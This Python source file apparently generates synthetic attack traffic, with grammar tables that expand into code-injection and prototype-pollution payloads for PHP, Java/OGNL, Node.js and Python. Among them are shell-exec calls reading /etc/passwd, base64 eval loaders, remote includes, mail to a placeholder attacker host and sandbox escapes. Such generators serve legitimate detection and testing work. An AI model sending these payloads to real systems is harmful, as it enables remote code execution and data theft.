"""Code injection in short: one call, one class name, one polluting key of PHP, Java, Node.js and
Python."""

from traffic.grammars.attacks.pieces import Grammar, Symbols

# Tables: as many alternatives to a line as fit.
# fmt: off
_SYMBOLS: Symbols = {
    "in": (
        "", "", "", "", ";", "';", "'.", '".', "1;", "\";", "${@", "{${", "|", "‹n›;", "');",
        "<?php ", "<?=", "<? ", "@", "echo ", "print ", "return ", "?><?php ", "die(",
    ),
    "e": (
        "", "", "", ";", ";", ";//", ";#", ".'", '."', "?>", ";?>", "}", "}}", ");", ";/*", " ?>",
        "'",
    ),
    "cmd": (
        "id", "ls", "whoami", "uname -a", "dir", "ls -la", "cat /etc/passwd", "pwd", "‹plain›",
        "ping ‹ip›", "sleep ‹secs›", "ps", "env", "hostname",
    ),
    "plain": ("ls ‹id›", "cat ‹id›.txt", "echo ‹rnd›", "echo ‹n›", "ver", "set", "net user"),
    "q": ("'", "'", '"'),
    "php": (
        "phpinfo(‹d?›)", "phpinfo()", "‹run›(‹q#1›‹cmd›‹q#1›)", "‹run›(‹q#1›‹cmd›‹q#1›)",
        "‹run›(‹cmd›)", "‹run›($_‹GET¦POST¦REQUEST¦COOKIE¦SERVER›[‹q#1›‹abc›‹q#1›])",
        "‹run›($_‹GET¦POST›[‹d›])", "eval(base64_decode(‹q#1›‹b64s›‹q#1›))",
        "eval(base64_decode($_POST[‹abc›]))", "eval(gzinflate(base64_decode(‹q#1›‹b64s›‹q#1›)))",
        "base64_decode(‹q#1›‹b64s›‹q#1›)", "print(md5(‹n›))", "print_r(scandir(‹q#1›.‹q#1›))",
        "md5(‹rnd›)", "var_dump(‹n›)", "file_get_contents(‹q#1›/etc/‹passwd¦‹id››‹q#1›)",
        "readfile(‹q#1›‹id›.php‹q#1›)", "include(‹q#1›‹url›‹q#1›)",
        "show_source(‹q#1›‹id›.php‹q#1›)", "highlight_file(__FILE__)",
        "chr(‹n8›).chr(‹n8›).chr(‹n8›)",
        "ini_get(‹q#1›‹id›‹q#1›)", "getenv(‹q#1›‹id›‹q#1›)", "str_rot13(‹q#1›‹rnd›‹q#1›)(‹n›)",
        "call_user_func(‹q#1›‹run›‹q#1›,‹q#1›‹cmd›‹q#1›)",
        "array_map(‹q#1›‹run›‹q#1›,[‹q#1›‹cmd›‹q#1›])", "fopen(‹q#1›‹id›‹q#1›,‹q#1›w‹q#1›)",
        "unlink(‹q#1›‹id›‹q#1›)", "mail(‹q#1›‹name›@‹evil›‹q#1›)", "print(‹n›*‹n›)",
        "get_defined_vars()", "phpversion()", "php_uname()", "exit(‹n›)", "die(‹n›)",
        "create_function(‹q#1›‹q#1›,‹q#1›‹cmd›‹q#1›)",
    ),
    "run": (
        "system", "system", "exec", "passthru", "shell_exec", "eval", "assert", "popen",
        "proc_open", "pcntl_exec",
    ),
    "php1": (
        "<?php", "<?php ‹php›", "<?php ‹php›;?>", "<?=‹php›?>", "<? ‹php› ?>",
        "<?php echo ‹n›*‹n›;", "${@‹php›}", "${@print(md5(‹n›))}", "{${‹php›}}", "${‹php›}",
        "{${print(‹n›)}}", "<script language=php>‹php›</script>", "<?php /*‹rnd›", "<%‹php›%>",
        "<?php @‹php›", "<?PHP‹sp›‹php›", "?><?php ‹php›", "<?xml?><?php ‹php›", "<?php // ‹rnd›",
        "#<?php ‹php›",
    ),
    "java": (
        "java.lang.‹Runtime¦ProcessBuilder¦System¦Thread¦ClassLoader¦Class›",
        "java.lang.Runtime.getRuntime()", "java.lang.Runtime.getRuntime().exec('‹cmd›')",
        "Runtime.getRuntime().exec(‹q#1›‹cmd›‹q#1›)", "getRuntime().exec(‹q#1›‹cmd›‹q#1›)",
        "@java.lang.‹Runtime@getRuntime()¦System@getenv()¦Math@random()›",
        "@java.lang.Runtime@getRuntime().exec(‹q#1›‹cmd›‹q#1›)",
        "new java.lang.ProcessBuilder(‹q#1›‹cmd›‹q#1›)",
        "new ProcessBuilder(‹q#1›‹cmd›‹q#1›).start()", "T(java.lang.‹Runtime¦System›)",
        "T(java.lang.Runtime).getRuntime().exec(‹q#1›‹cmd›‹q#1›)",
        "javax.script.ScriptEngineManager", "#_memberAccess", "#_memberAccess['‹id›']",
        "(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)", "ognl.OgnlContext",
        "org.apache.commons.‹io.IOUtils¦collections.functors.InvokerTransformer¦lang.‹id››",
        "com.sun.rowset.JdbcRowSetImpl", "class.forName(‹q#1›java.lang.‹Runtime¦System›‹q#1›)",
        "getClass().forName(‹q#1›java.lang.‹Runtime¦‹id››‹q#1›)", "class.classLoader",
        "class.module.classLoader", "class.classLoader.‹id›", "Class.forName(‹q#1›‹id›‹q#1›)",
        "%{#‹id›=‹n›}", "#application['‹id›']", "#context['‹id›']",
        "#request.‹id›=@java.lang.‹abc›@‹abc›()", "java.util.Scanner(‹id›)",
        "java.io.File‹Reader¦InputStream¦›(‹q#1›/‹id›‹q#1›)", "sun.misc.‹Unsafe¦BASE64Decoder›",
        "freemarker.template.utility.‹Execute¦ObjectConstructor›",
        "springframework.context.support.ClassPathXmlApplicationContext",
        "java.net.URLClassLoader(‹id›)", "javax.naming.InitialContext",
    ),
    "node": (
        "require(‹q#1›child_process‹q#1›)",
        "require(‹q#1›child_process‹q#1›).‹exec¦execSync¦spawn›(‹q#1›‹cmd›‹q#1›)",
        "require(‹q#1›fs‹q#1›).readFileSync(‹q#1›/‹etc/passwd¦‹id››‹q#1›)",
        "require(‹q#1›‹os¦net¦vm¦http¦cluster›‹q#1›).‹abc›",
        "process.‹env.‹id›¦exit(‹d›)¦mainModule¦cwd()¦pid¦argv[‹d›]¦binding(‹q#1›fs‹q#1›)¦kill(‹n›"
        ")›",
        "global.process.‹exit()¦mainModule›",
        "process.mainModule.require(‹q#1›‹child_process¦fs›‹q#1›)",
        "this.constructor.constructor(‹q#1›return process‹q#1›)()", "res.end(‹q#1›‹rnd›‹q#1›)",
        "eval(‹n›+‹n›)", "Function(‹q#1›return ‹n›‹q#1›)()", "global.process.mainModule",
        "_$$ND_FUNC$$_function(){‹abc›()}", "new Function(‹q#1›‹abc›‹q#1›)",
        "setTimeout(‹q#1›‹abc›()‹q#1›,‹n›)", "constructor.constructor(‹q#1›‹abc›()‹q#1›)()",
        "import(‹q#1›child_process‹q#1›)", "Reflect.construct(Function,[‹q#1›‹abc›‹q#1›])",
    ),
    "py": (
        "__import__(‹q#1›os‹q#1›)", "__import__(‹q#1›os‹q#1›).‹system¦popen›(‹q#1›‹cmd›‹q#1›)",
        "__import__(‹q#1›‹subprocess¦time¦socket¦sys›‹q#1›).‹abc›",
        "os.‹system¦popen›(‹q#1›‹cmd›‹q#1›)",
        "subprocess.‹call¦check_output¦Popen¦run›(‹q#1›‹cmd›‹q#1›,shell=True)",
        "import os;os.system(‹q#1›‹cmd›‹q#1›)", "exec(‹q#1›import ‹os¦socket¦‹abc››‹q#1›)",
        "eval(‹q#1›‹n›+‹n›‹q#1›)", "eval(compile(‹q#1›‹n›‹q#1›,‹q#1›‹abc›‹q#1›,‹q#1›eval‹q#1›))",
        "open(‹q#1›/etc/‹passwd¦‹id››‹q#1›).read()",
        "__builtins__.‹open¦eval¦exec¦__dict__›", "globals()[‹q#1›‹id›‹q#1›]",
        "().__class__.__bases__[0]", "''.__class__.__mro__[‹d›]", "‹id›.__class__.__mro__",
        "time.sleep(‹n8›)", "__subclasses__()[‹n›]", "‹id›.__globals__[‹q#1›‹id›‹q#1›]",
        "sys.modules[‹q#1›os‹q#1›]", "getattr(‹id›,‹q#1›__‹abc›__‹q#1›)",
    ),
    "k": (
        "isAdmin", "admin", "role", "polluted", "‹id›", "‹id›", "‹rnd›", "toString", "status",
        "‹abc›", "shell", "NODE_OPTIONS", "length", "src", "innerHTML", "debug", "valueOf", "type",
        "password", "verified",
    ),
    "v": ("true", "1", "‹rnd›", "‹n›", "admin", "‹abc›", "", "polluted", "[object Object]"),
    "jv": ("true", "1", "‹n›", '"‹rnd›"', '"admin"', "null", "{}", "[]", "false"),
}
_GRAMMAR = Grammar(_SYMBOLS)

RULES = _GRAMMAR.rules(
    php_short=("‹in›‹php›‹e›", "‹php›", "‹php›;", "‹in›‹php›"),
    php_opening=("‹php1›", "‹php1›‹e›", "‹php1›"),
    java_short=(
        "‹java›", "‹in›‹java›", "${‹java›}", "%{‹java›}", "(‹java›)", "‹java›;", "#{‹java›}",
        "'+‹java›+'", "[‹java›]", "‹id›=‹java›", "{{‹java›}}", "‹java›.‹abc›",
    ),
    node_short=(
        "‹node›", "‹node›;", "';‹node›//", "'+‹node›+'", "${‹node›}", "(‹node›)", "‹n›;‹node›",
        "return ‹node›", '"+‹node›+"', "{‹node›}", "‹node›//‹abc›",
    ),
    python_short=(
        "‹py›", "‹py›", "'+‹py›+'", "(‹py›)", "{‹py›}", "‹n› or ‹py›", "';‹py›#", "str(‹py›)",
        "[‹py›]", '"+‹py›+"', "\n‹py›", "‹py›#‹abc›",
    ),
    polluting=(
        "__proto__[‹k›]=‹v›", "__proto__.‹k›=‹v›", "constructor[prototype][‹k›]=‹v›",
        "constructor.prototype.‹k›=‹v›", "__proto__[‹k›]", "‹id›[__proto__][‹k›]=‹v›",
        "‹id›[constructor][prototype][‹k›]=‹v›", '{"__proto__":{"‹k›":‹jv›}}',
        '{"__proto__":‹jv›,"‹k›":‹jv›}', '"__proto__":{"‹k›":‹jv›}',
        '{"constructor":{"prototype":{"‹k›":‹jv›}}}', "?__proto__[‹k›]=‹v›", "#__proto__[‹k›]=‹v›",
        "constructor[prototype][‹k›]", "__proto__[__proto__][‹k›]=‹v›", "‹id›.__proto__.‹k›=‹v›",
        "['__proto__']['‹k›']=‹jv›", "Object.prototype.‹k›=‹jv›", "__proto__%5B‹k›%5D=‹v›",
        '{"‹id›":{"__proto__":{"‹k›":‹jv›}}}', "Object.assign({},{__proto__:{‹k›:‹jv›}})",
        "&__proto__[‹k›]=‹v›&‹id›=‹n›", "‹id›.constructor.prototype.‹k›=‹v›",
    ),
)
